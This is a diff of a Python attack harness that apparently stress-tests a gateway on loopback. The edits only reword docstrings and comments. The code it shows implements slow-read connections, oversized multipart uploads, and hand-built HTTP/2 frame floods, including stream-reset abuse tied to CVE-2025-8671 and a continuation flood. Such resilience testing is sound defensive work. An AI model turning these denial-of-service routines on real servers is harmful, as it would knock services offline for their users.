@@ -1,8 +1,8 @@
-"""Attackers that no tool at hand plays, each for some seconds against a gateway on loopback. Used by attacks.py.
+"""Attacks that no Debian package makes, each for some seconds against a gateway on loopback. Used by attacks.py.
 
-usage: attack_shapes.py NAME PORT SECONDS KEY     (prints one line of JSON: what was sent, and how long it was borne)
+usage: attackers.py NAME PORT SECONDS KEY     (prints one line of JSON: what was sent, and when connections were closed)
 
-Frames of HTTP/2 are written by hand (RFC 9113 §4.1): what is sent here no library would.
+Frames of HTTP/2 are written by hand (RFC 9113 §4.1), because no library sends such sequences.
 """
 
 import asyncio
@@ -25,7 +25,7 @@ def frame(kind, flags, stream, payload=b""):
 
 
 def literal(name, value):
-    """A header field that is not indexed and not compressed, names and values below 127 bytes (RFC 7541 §6.2.2)."""
+    """Returns a header field that is neither indexed nor compressed; name and value below 127 bytes (RFC 7541 §6.2.2)."""
     return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
 
 
@@ -40,14 +40,14 @@ class Attack:
         self.port, self.key = port, key
         self.until = time.monotonic() + seconds
         self.sent, self.connections, self.lives = 0, 0, []
-        # Since when each connection plays its part.
+        # When each connection began to attack.
         self.began = {}
 
     def goes_on(self):
         return time.monotonic() < self.until
 
     async def connect(self, receive_buffer=None):
-        """A connection, unless nobody takes one at the moment."""
+        """Returns a connection, or None when it is not accepted."""
         sock = socket.socket()
         sock.setblocking(False)
         if receive_buffer:
@@ -61,7 +61,7 @@ class Attack:
         return sock
 
     async def life(self, play, receive_buffer=None):
-        """One attacker: whenever it is cut it comes again."""
+        """Attacks on one connection after the other: when one is closed, opens the next."""
         while self.goes_on():
             sock = await self.connect(receive_buffer)
             if sock is None:
@@ -72,7 +72,7 @@ class Attack:
                 await asyncio.wait_for(play(sock), max(0.1, self.until - time.monotonic()))
                 self.lives.append(time.monotonic() - self.began[sock])
             except TimeoutError:
-                # The end of the attack, and of nothing else: it is an OSError, too.
+                # The attack is over; this exception is an OSError too, but the gateway closed nothing.
                 pass
             except (OSError, EOFError):
                 self.lives.append(time.monotonic() - self.began[sock])
@@ -84,15 +84,15 @@ class Attack:
         await asyncio.get_running_loop().sock_sendall(sock, data)
         self.sent += len(data)
 
-    async def hear(self, sock):
-        """Reads until the gateway hangs up."""
+    async def read_all(self, sock):
+        """Reads until the gateway closes the connection."""
         while await asyncio.get_running_loop().sock_recv(sock, 65536):
             pass
         raise EOFError
 
     async def until_cut(self, sock, *plays):
-        """Plays until the gateway hangs up, whichever is noticed first."""
-        tasks = [asyncio.ensure_future(play) for play in (self.hear(sock), *plays)]
+        """Plays until the gateway closes the connection, whether reading or writing notices first."""
+        tasks = [asyncio.ensure_future(play) for play in (self.read_all(sock), *plays)]
         try:
             done, _ = await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
             for task in done:
@@ -123,8 +123,8 @@ class Attack:
 
     async def slow_read(self, sock):
         ask = f"GET /v1/models HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {self.key}\r\n\r\n".encode() * 10
-        # Nothing is read, so at some point nothing is written any more, and then nothing read there either. It counts from
-        # when the last could be sent.
+        # Nothing is read here, so the gateway can write no more, and then reads no more. The time counts from the last
+        # bytes that could be sent.
         while True:
             await self.send(sock, ask)
             self.began[sock] = time.monotonic()
@@ -146,7 +146,7 @@ class Attack:
         picture = b"\x89PNG\r\n\x1a\n" + os.urandom(1 << 20)
         parts = b"".join(b"--" + BOUNDARY.encode() + b'\r\nContent-Disposition: form-data; name="image[]"; filename="a.png"\r\n\r\n'
                          + picture + b"\r\n" for _ in range(16))
-        # The last part has it refused, so that nothing is bought.
+        # The model of the last part is refused, so that nothing is bought.
         parts += (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="model"\r\n\r\nno-such-model\r\n--{BOUNDARY}--\r\n').encode()
         head = (f"POST /v1/images/edits HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {self.key}\r\n"
                 f"Content-Length: {len(parts)}\r\nContent-Type: multipart/form-data; boundary={BOUNDARY}\r\n"
@@ -156,7 +156,7 @@ class Attack:
     # ---- HTTP/2
 
     async def broken_streams(self, sock, second):
-        """Begins stream after stream, each followed by a second frame."""
+        """Begins one stream after the other, each followed by a second frame."""
         await self.send(sock, PREFACE + frame(SETTINGS, 0, 0))
         head = request_head(self.port, self.key)
 
@@ -174,7 +174,7 @@ class Attack:
         await self.broken_streams(sock, lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
 
     async def made_you_reset(self, sock):
-        """Has the gateway do the resetting: DATA on a stream that was ended (CVE-2025-8671)."""
+        """Makes the gateway reset streams: DATA on a stream that was ended (CVE-2025-8671)."""
         await self.broken_streams(sock, lambda stream: frame(DATA, 0, stream, b"x"))
 
     async def continuation_flood(self, sock):
